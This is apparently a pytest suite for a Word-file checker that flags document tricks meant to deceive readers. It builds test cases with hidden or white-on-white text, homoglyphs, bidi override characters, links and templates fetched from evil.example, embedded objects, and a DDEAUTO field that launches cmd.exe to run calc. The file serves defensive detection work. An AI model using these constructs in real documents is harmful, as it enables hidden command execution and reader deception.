"""What deceives a reader is reported and the file is read; what honest programs leave in files is not worth a word."""

# ruff: noqa: E501 - tables of cases, each on one line
from __future__ import annotations

import io

import docx
import pytest
from word_file import Parts, by, document, field, p, parts, r, relation, relations, row, table

from mougen.model.finding import Finding

WHITE, VANISH = '<w:color w:val="FFFFFF"/>', "<w:vanish/>"
DARK = '<w:shd w:val="clear" w:color="auto" w:fill="1F3864"/>'
STYLES = (
    '<w:docDefaults><w:rPrDefault><w:rPr><w:sz w:val="22"/></w:rPr></w:rPrDefault></w:docDefaults>'
    '<w:style w:type="paragraph" w:default="1" w:styleId="N"><w:name w:val="Normal"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="Gone"><w:basedOn w:val="N"/><w:rPr><w:vanish/></w:rPr></w:style>'
    '<w:style w:type="character" w:styleId="Away"><w:rPr><w:vanish/></w:rPr></w:style>'
    '<w:style w:type="character" w:styleId="Back"><w:basedOn w:val="Away"/><w:rPr><w:vanish w:val="0"/></w:rPr></w:style>'
    '<w:style w:type="paragraph" w:styleId="Pale"><w:rPr><w:color w:val="FDFDFD"/></w:rPr></w:style>'
    '<w:style w:type="paragraph" w:styleId="Boxed"><w:pPr><w:shd w:val="clear" w:fill="000000"/></w:pPr><w:rPr><w:color w:val="FFFFFF"/></w:rPr></w:style>'
    '<w:style w:type="table" w:styleId="Grid"><w:tblStylePr w:type="firstRow"><w:rPr><w:color w:val="FFFFFF"/></w:rPr><w:tcPr><w:shd w:val="clear" w:fill="1F3864"/></w:tcPr></w:tblStylePr></w:style>'
    '<w:style w:type="table" w:styleId="Trap"><w:rPr><w:color w:val="FFFFFF"/></w:rPr></w:style>'
)
GRID, TRAP = '<w:tblStyle w:val="Grid"/><w:tblLook w:val="0020"/>', '<w:tblStyle w:val="Trap"/>'
ANCHOR = '<w:commentRangeStart w:id="1"/>' + r("here") + '<w:commentRangeEnd w:id="1"/><w:r><w:commentReference w:id="1"/></w:r>'
LINKED = '<w:hyperlink r:id="h">{}</w:hyperlink>'


def styled(style: str, text: str = "The Council pays.") -> Parts:
    return parts(p(r(text), f'<w:pStyle w:val="{style}"/>'), styles=STYLES)


def look(look: str, paragraph: str = "") -> Parts:
    return parts(p(r("The Council pays.", look), paragraph), styles=STYLES)


def celled(content: str, **more: str) -> Parts:
    return parts(table(row(content, cell=more.pop("cell", "")), row(p(r("Below"))), look=more.pop("look", "")), styles=STYLES)


def said(text: str) -> Parts:
    return parts(p(r(text)))


def linked(address: str, text: str = "our terms", kind: str = "hyperlink") -> Parts:
    return parts(p(LINKED.format(r(text))), links=(relation("h", kind, address, external=True),))


def template(target: str) -> Parts:
    made = parts(settings='<w:attachedTemplate r:id="t"/>')
    return made | {"word/_rels/settings.xml.rels": relations(relation("t", "attachedTemplate", target, external=True))}


def choice(first: str, second: str, needs: str = "wps") -> Parts:
    branches = f'<mc:Choice Requires="{needs}">{r(first)}</mc:Choice><mc:Fallback>{r(second)}</mc:Fallback>'
    return parts(p(f"<mc:AlternateContent>{branches}</mc:AlternateContent>"))


def thread(*rows: tuple[str, str]) -> Parts:
    comments = "".join(by("comment", f'<w:p w14:paraId="{own}"/>', number=int(own)) for own, _ in rows)
    extended = "".join(f'<w15:commentEx w15:paraId="{own}"{f" w15:paraIdParent={chr(34)}{parent}{chr(34)}" if parent else ""}/>' for own, parent in rows)
    return parts(p(ANCHOR), comments=comments, commentsExtended=extended)


def bound(shown: str, data: str, path: str = "/ns0:deal[1]/ns0:sum[1]") -> Parts:
    control = f'<w:sdt><w:sdtPr><w:dataBinding w:xpath="{path}" w:storeItemID="{{A}}"/></w:sdtPr><w:sdtContent>{r(shown)}</w:sdtContent></w:sdt>'
    return parts(p(control), links=(relation("c", "customXml", "../customXml/item1.xml"),)) | {
        "customXml/item1.xml": f"<deal xmlns='urn:x'><sum>{data}</sum></deal>".encode(),
        "customXml/_rels/item1.xml.rels": relations(relation("p", "customXmlProps", "itemProps1.xml")),
        "customXml/itemProps1.xml": b"<d:datastoreItem xmlns:d='http://schemas.openxmlformats.org/officeDocument/2006/customXml' d:itemID='{A}'/>",
    }


def boxed(shape: str) -> str:
    return f'<w:r><w:drawing><wps:wsp><wps:spPr>{shape}</wps:spPr><wps:txbx><w:txbxContent>{p(r("In a box", WHITE))}</w:txbxContent></wps:txbx></wps:wsp></w:drawing></w:r>'


SEEN: dict[str, tuple[Parts, str, str, str]] = {
    "hidden words": (look(VANISH), "hidden-text", "should", "the text has words that are hidden: “The Council pays.”"),
    "hidden by a paragraph's style": (styled("Gone"), "hidden-text", "should", "are hidden"),
    "hidden by a style of letters": (look('<w:rStyle w:val="Away"/>'), "hidden-text", "should", "are hidden"),
    "hidden in a header": (parts(header=p(r("Never", VANISH))), "hidden-text", "should", "a header has words that are hidden: “Never”"),
    "hidden in a footnote": (parts(footnotes=f'<w:footnote w:id="2">{p(r("Never", VANISH))}</w:footnote>'), "hidden-text", "should", "a footnote has words that are hidden"),
    "hidden in a tracked insertion": (parts(p(by("ins", r("not", VANISH)))), "hidden-text", "should", "are hidden: “not”"),
    "a hidden row": (parts(table(row(p(r("£1")), look="<w:hidden/>"))), "hidden-text", "should", "are in a hidden row: “£1”"),
    "white on white": (look(WHITE), "unreadable-text", "should", "can hardly be told from what is behind them: “The Council pays.”"),
    "nearly white": (look('<w:color w:val="F2F2F2"/>'), "unreadable-text", "should", "can hardly be told"),
    "the colour of the paper by its name": (look('<w:color w:val="000000" w:themeColor="background1"/>'), "unreadable-text", "should", "can hardly be told"),
    "pale by a style": (styled("Pale"), "unreadable-text", "should", "can hardly be told"),
    "black on black": (look('<w:color w:val="000000"/><w:shd w:val="clear" w:fill="000000"/>'), "unreadable-text", "should", "can hardly be told"),
    "yellow on a yellow marker": (look('<w:color w:val="FFFF00"/><w:highlight w:val="yellow"/>'), "unreadable-text", "should", "can hardly be told"),
    "white in a white cell": (celled(p(r("£1", WHITE))), "unreadable-text", "should", "“£1”"),
    "white below a dark heading row": (parts(table(row(p(r("Sum"))), row(p(r("£1", WHITE))), look=GRID), styles=STYLES), "unreadable-text", "should", "“£1”"),
    "white by a table's style": (celled(p(r("£1")), look=TRAP), "unreadable-text", "should", "“£1Below”"),
    "white in a box without a colour": (parts(p(boxed("<a:noFill/>"))), "unreadable-text", "should", "“In a box”"),
    "a letter of three points": (look('<w:sz w:val="6"/>'), "unreadable-text", "should", "are too small to read"),
    "a letter of no width": (look('<w:w w:val="1"/>'), "unreadable-text", "should", "are too small to read"),
    "a line of no height": (look("", '<w:spacing w:line="20" w:lineRule="exact"/>'), "unreadable-text", "should", "are in a line too low to read"),
    "a row of no height": (parts(table(row(p(r("£1")), look='<w:trHeight w:val="10" w:hRule="exact"/>'))), "unreadable-text", "should", "are in a row too low to read"),
    "a link elsewhere": (linked("https://evil.example/terms"), "external-link", "note", "the words “our terms” link to “https://evil.example/terms”"),
    "a link to another site than it says": (linked("https://evil.example/", "www.bury.gov.uk"), "external-link", "should", "link to another site, “https://evil.example/”"),
    "a link to a share": (linked(r"file://evil/share"), "external-link", "should", "which is no web page"),
    "a link that is a script": (linked("javascript:alert(1)"), "external-link", "should", "which is no web page"),
    "a linked picture": (linked("http://evil.example/x.png", kind="image"), "external-link", "should", "the file shows what stands elsewhere (image): “http://evil.example/x.png”"),
    "a link by a field": (parts(p(field(' HYPERLINK "https://evil.example" ', r("terms")))), "external-link", "note", "the text has a link to “https://evil.example”"),
    "a link by a field to a share": (parts(p(field(r" HYPERLINK \\evil\share ", r("terms")))), "external-link", "should", "which is no web page"),
    "a template from the web": (template("https://evil.example/x.dotm"), "attached-template", "should", "the file fetches its template from “https://evil.example/x.dotm”"),
    "a template from a share": (template(r"\\evil\x.dotm"), "attached-template", "should", "fetches its template"),
    "an object": (parts(links=(relation("o", "oleObject", "embeddings/o.bin"),)) | {"word/embeddings/o.bin": b"x"}, "embedded-object", "should", "the file has an object of another program in it: “word/embeddings/o.bin”"),
    "a workbook inside": (parts(links=(relation("o", "package", "embeddings/o.xlsx"),)) | {"word/embeddings/o.xlsx": b"x"}, "embedded-object", "should", "a whole file"),
    "a control": (parts(links=(relation("o", "control", "activeX/a.xml"),)) | {"word/activeX/a.xml": b"<x/>"}, "embedded-object", "should", "a control that can run"),
    "an add-in": (parts() | {"_rels/.rels": relations(relation("a", "officeDocument", "word/document.xml"), relation("w", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "word/x.xml"))}, "embedded-object", "should", "an add-in"),
    "DDE": (parts(p(field(r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '))), "field", "should", "the field DDEAUTO, which fetches or runs something"),
    "DDE in pieces": (parts(p('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DE cmd</w:instrText></w:r>')), "field", "should", "the field DDE,"),
    "DDE in one element": (parts(p('<w:fldSimple w:instr=" dde cmd "/>')), "field", "should", "the field DDE,"),
    "DDE put together by a field": (parts(p(field(field(" QUOTE 68 68 69 ", r("DDE")) + "<w:r><w:instrText> cmd</w:instrText></w:r>"))), "field", "should", "the text has a field whose command is put together by another field"),
    "a text from elsewhere": (parts(p(field(' INCLUDETEXT "http://evil.example/x" '))), "field", "should", "INCLUDETEXT"),
    "a picture from elsewhere": (parts(p(field(' INCLUDEPICTURE "http://evil.example/x" '))), "field", "should", "INCLUDEPICTURE"),
    "a field in a footer": (parts(footer=p(field(" LINK Excel.Sheet x "))), "field", "should", "a footer has the field LINK"),
    "a field nobody knows": (parts(p(field(" FROBNICATE 1 "))), "field", "note", "the field FROBNICATE, which mougen does not know"),
    "a question on opening": (parts(p(field(' FILLIN "Name?" '))), "field", "note", "the field FILLIN"),
    "other words elsewhere": (choice("£10", "£10,000"), "alternate-text", "should", "the text says “£10” in Word and “£10,000” elsewhere"),
    "a choice that Word does not know": (choice("£10", "£10,000", needs="evil"), "alternate-text", "should", "says “£10,000” in Word and “£10” elsewhere"),
    "data that Word puts in": (bound("£10", "£10,000"), "bound-text", "should", "the text says “£10” where Word would put “£10,000”"),
    "words in markup of its own": (parts(p(f"<x xmlns='urn:evil'>{r('never seen')}</x>")), "unknown-markup", "should", "the text has words in markup of its own: “never seen”"),
    "words that turn others round": (said("pay \u202e000,01£\u202c now"), "hidden-characters", "should", "U+202E (right-to-left override), in “pay [U+202E]000,01£[U+202C] now”"),
    "an isolate": (said("pay \u2066x\u2069 now"), "hidden-characters", "should", "U+2066"),
    "a space of no width": (said("the Coun\u200bcil"), "hidden-characters", "note", "U+200B (zero width space)"),
    "a joiner in an English word": (said("the Coun\u200dcil"), "hidden-characters", "note", "U+200D"),
    "a byte order mark": (said("the \ufeffCouncil"), "hidden-characters", "note", "U+FEFF (byte order mark)"),
    "a letter of tags": (said("the Council\U000e0041"), "hidden-characters", "should", "U+E0041"),
    "a filler": (said("the\u3164 Council"), "hidden-characters", "note", "U+3164"),
    "in a comment": (parts(p(ANCHOR), comments=by("comment", p(r("no\u202ew")))), "hidden-characters", "should", "a comment has a character that cannot be seen"),
    "a Cyrillic letter": (said("the C\u043euncil"), "look-alike", "should", "the text has the word “C\u043euncil”, which reads like “Council” but has U+043E (cyrillic small letter o)"),
    "a Greek letter": (said("the \u039duncil pays"), "look-alike", "should", "reads like “Nuncil”"),
    "parted over two runs": (parts(p(r("C\u043e") + r("uncil"))), "look-alike", "should", "“Council”"),
    "a word all of Cyrillic": (said("the \u0441\u043e\u0440 pays"), "look-alike", "should", "reads like “cop”"),
    "a letter of mathematics": (said("the \U0001d402ouncil"), "look-alike", "should", "reads like “Council”"),
    "a wide letter": (said("the \uff23ouncil"), "look-alike", "should", "reads like “Council”"),
    "in words that are struck out": (parts(p(by("del", "<w:r><w:delText>the C\u043euncil</w:delText></w:r>"))), "look-alike", "should", "“Council”"),
    "one bookmark twice": (parts(p('<w:bookmarkStart w:id="1" w:name="_mg_a"/>' * 2)), "bookmark", "should", "the bookmark “_mg_a” of a clause or paragraph stands there 2 times"),
    "one bookmark in the text and a header": (parts(p('<w:bookmarkStart w:id="1" w:name="_mg_a"/>'), header=p('<w:bookmarkStart w:id="2" w:name="_MG_A"/>'.replace("_MG_A", "_mg_A"))), "bookmark", "should", "stands there 2 times"),
    "a comment about nothing": (parts(comments=by("comment", p(r("Why?")))), "comment-anchor", "note", "comment “1” is about no words of the text"),
    "a mark without a comment": (parts(p(ANCHOR)), "comment-anchor", "note", "the text has a mark of comment “1”, which is not there"),
    "replies in a circle": (thread(("1", "2"), ("2", "1")), "reply-circle", "should", "comments answer one another in a circle"),
    "a reply to itself": (thread(("1", "1")), "reply-circle", "should", "in a circle"),
    "a style based on itself": (parts(styles='<w:style w:styleId="a"><w:name w:val="Mine"/><w:basedOn w:val="a"/></w:style>'), "style-circle", "should", "the style “Mine” is based on itself"),
    "styles in a circle": (parts(styles="".join(f'<w:style w:styleId="{a}"><w:basedOn w:val="{b}"/></w:style>' for a, b in ("ab", "bc", "ca"))), "style-circle", "should", "is based on itself"),
    "half of a move": (parts(p(by("moveFromRangeStart", number=1).replace("w:date", 'w:name="m1" w:date') + by("moveFrom", r("x")) + by("moveTo", r("y")))), "move", "should", "a tracked move (“m1”) does not say where it went"),
    "a move by no move": (parts(p(by("moveTo", r("x")))), "move", "should", "words are marked as moved here, and none as moved away"),
    "deleted words in no deletion": (parts(p("<w:r><w:delText>not </w:delText></w:r>")), "deleted-text", "should", "the text has words marked as deleted in no deletion: “not”"),
    "one name in two spellings": (parts(p(by("ins", r("a"), "Ann Lee") + by("ins", r("b"), "Ann  LEE"))), "claimed-author", "should", "one name is spelt in several ways: “Ann LEE”, “Ann Lee”"),
    "a name with a letter of another script": (parts(p(by("ins", r("a"), "Ann Lee") + by("del", "", "\u0410nn Lee"))), "claimed-author", "should", "one name is spelt in several ways"),
}  # fmt: skip
HONEST: dict[str, Parts] = {
    "a template on the writer's disk": template("file:///C:/Users/ann/Templates/House.dotx"),
    "a template by its path": template(r"C:\Users\ann\House.dotx"),
    "a template by its name": template("Normal.dotm"),
    "a template on a Mac": template("file://localhost/Users/ann/House.dotx"),
    "an address that links to itself": linked("https://www.bury.gov.uk/terms/", "www.bury.gov.uk/terms"),
    "a mail address": linked("mailto:ann@bury.gov.uk?subject=Draft", "ann@bury.gov.uk"),
    "a place in the file": linked("#_Toc1", "Risk"),
    "white words on a dark cell": celled(p(r("Party", WHITE)), cell=DARK),
    "white words on a dark paragraph": styled("Boxed"),
    "white words on a dark run": look(WHITE + DARK),
    "a dark heading row by a table's style": parts(table(row(p(r("Party"))), row(p(r("Bury"))), look=GRID), styles=STYLES),
    "white words in a dark heading row": parts(table(row(p(r("Party", WHITE))), row(p(r("Bury"))), look=GRID), styles=STYLES),
    "white words in a coloured box": parts(p(boxed('<a:solidFill><a:schemeClr val="accent1"/></a:solidFill>'))),
    "white words on a dark page": parts(p(r("x", WHITE))) | {"word/document.xml": document(p(r("x", WHITE))).replace(b"<w:body>", b'<w:background w:color="1F3864"/><w:body>')},
    "a pale space": look(WHITE) | parts(p(r("   ", WHITE + VANISH))),
    "words that are hidden by neither style": look('<w:rStyle w:val="Back"/>'),
    "words hidden twice, which shows them": parts(p(r("shown", '<w:rStyle w:val="Away"/>'), '<w:pStyle w:val="Gone"/>'), styles=STYLES),
    "words shown again by themselves": parts(p(r("shown", '<w:vanish w:val="false"/>'), '<w:pStyle w:val="Gone"/>'), styles=STYLES),
    "words hidden on the web only": look("<w:webHidden/>"),
    "a hidden end of a paragraph": parts(p(r("Run in."), "<w:rPr><w:vanish/><w:specVanish/></w:rPr>")),
    "a hidden entry of the index": parts(p(f"<w:r><w:rPr>{VANISH}</w:rPr><w:instrText> XE risk </w:instrText></w:r>")),
    "grey words of a placeholder": look('<w:color w:val="808080"/>'),
    "a red word": look('<w:color w:val="FF0000"/>'),
    "small print": look('<w:sz w:val="12"/>'),
    "a thin line without words": parts(p("", '<w:spacing w:line="20" w:lineRule="exact"/>')),
    "ids of Word's saving": parts('<w:p w:rsidR="00A1" w:rsidRDefault="00A2" w14:paraId="1"><w:proofErr w:type="spellStart"/>' + r("agrees") + "</w:p>"),
    "a content control": parts(f'<w:sdt><w:sdtPr><w:alias w:val="x"/></w:sdtPr><w:sdtContent>{p(r("agreed"))}</w:sdtContent></w:sdt>'),
    "a control that says what its data say": bound("£10,000", "£10,000"),
    "a control bound by a path of its own": bound("£10", "£10,000", "//sum[position() = 1]"),
    "a smart tag": parts(p(f'<w:smartTag w:uri="urn:x" w:element="place">{r("Bury")}</w:smartTag>')),
    "a shape drawn twice alike": choice("In a box", "In a box"),
    "the fields of an agreement": parts(p("".join(field(told, r("1")) for told in (r" REF _mg_a \r \h ", " PAGE ", " NUMPAGES ", r' TOC \o "1-2" ', " PAGEREF _Toc1 ", r' DATE \@ "d MMMM" ', " = SUM(ABOVE) ", " SEQ Table ", " FORMTEXT ")))),
    "a field that is a bookmark's name": parts(p('<w:bookmarkStart w:id="1" w:name="Deal"/>' + field(" Deal ", r("1")))),
    "a condition of a letter": parts(p(field(' IF "' + field(" MERGEFIELD x ", r("a")) + '" = "a" "yes" "no" ', r("yes")))),
    "Greek in Greek": said("The company (\u0395\u03bb\u03bb\u03b7\u03bd\u03b9\u03ba\u03ae \u0395\u03c4\u03b1\u03b9\u03c1\u03b5\u03af\u03b1, \u03b1\u03bd) agrees."),
    "Russian in Russian": said("The firm \u041e\u041e\u041e \u00ab\u0420\u043e\u0441\u0442\u00bb agrees."),
    "a symbol": said("5 \u03bcm, 10 k\u03a9, \u0394 and \u03b1 &lt; 1"),
    "Welsh": said("Ynys M\u00f4n, \u0175 and \u0177"),
    "an emoji": said("Agreed \U0001f469\u200d\u2695\ufe0f \u2764\ufe0f"),
    "joined letters of Persian": said("\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"),
    "a soft hyphen and spaces that do not break": said("the agree\u00adment of 5\u00a0May"),
    "curly signs and ordinals": said("the \u201c1\u00ba\u201d party\u2019s 5\u00bd \u2013 \u2026 \u2122"),
    "a whole move": parts(p(by("moveFromRangeStart").replace("w:date", 'w:name="m" w:date') + by("moveFrom", r("x"))) + p(by("moveToRangeStart").replace("w:date", 'w:name="m" w:date') + by("moveTo", r("x")))),
    "a move without a name, as LibreOffice writes it": parts(p(by("moveFrom", r("x"))) + p(by("moveTo", r("x")))),
    "tracked changes": parts(p(by("ins", r("a")) + by("del", "<w:r><w:delText>b</w:delText></w:r>"))),
    "a comment and its reply": parts(p(ANCHOR), comments=by("comment", '<w:p w14:paraId="1"/>') + by("comment", '<w:p w14:paraId="2"/>', number=2), commentsExtended='<w15:commentEx w15:paraId="1" w15:done="1"/><w15:commentEx w15:paraId="2" w15:paraIdParent="1"/>'),
    "two authors": parts(p(by("ins", r("a"), "Ann Lee") + by("ins", r("b"), "Ann Leigh"))),
    "styles of which some are based on none": parts(styles=STYLES),
    "a picture": parts(links=(relation("i", "image", "media/image1.png"),)) | {"word/media/image1.png": b"\x89PNG"},
    "a link to a part that is not there": parts(links=(relation("i", "image", "NULL"),)),
}  # fmt: skip


@pytest.mark.parametrize("name", SEEN)
def test_it_is_reported_and_the_file_is_read(name, door):
    given, rule, severity, words = SEEN[name]
    found = door(given).findings
    assert {(one.rule, one.severity) for one in found} == {(f"returned/{rule}", severity)}, found
    assert words in found[0].message, found[0].message
    assert found[0].why
    assert found[0].place.file
    assert not found[0].stops


@pytest.mark.parametrize("name", HONEST)
def test_what_is_honest_stays_quiet(name, door):
    assert door(HONEST[name]).findings == ()


def test_what_python_docx_writes_stays_quiet(door):
    made = docx.Document()
    made.add_heading("Risk", 1)
    made.add_paragraph("The parties agree.", style="List Number")
    made.add_table(2, 2, style="Light Grid Accent 1").cell(0, 0).text = "Party"
    saved = io.BytesIO()
    made.save(saved)
    assert door(saved.getvalue()).findings == ()


def test_many_of_a_kind_are_counted_and_not_listed(door):
    found = door(parts("".join(p(r(f"Hidden {count}.", VANISH)) + p(r("Seen.")) for count in range(50)))).findings
    assert len(found) == 11
    assert found[-1].message == "and 40 more of this kind (hidden text)"


def test_what_is_said_once_is_not_said_again(door):
    assert len(door(parts(p(field(" DDE x ")) * 5)).findings) == 1


def test_a_message_is_one_line_however_long_and_odd_the_words_are(door):
    (found,) = door(parts(p(r("word\u0085 \n" * 5_000, VANISH)))).findings
    assert len(found.message) < 200
    assert isinstance(found, Finding)
    assert found.message.isprintable()
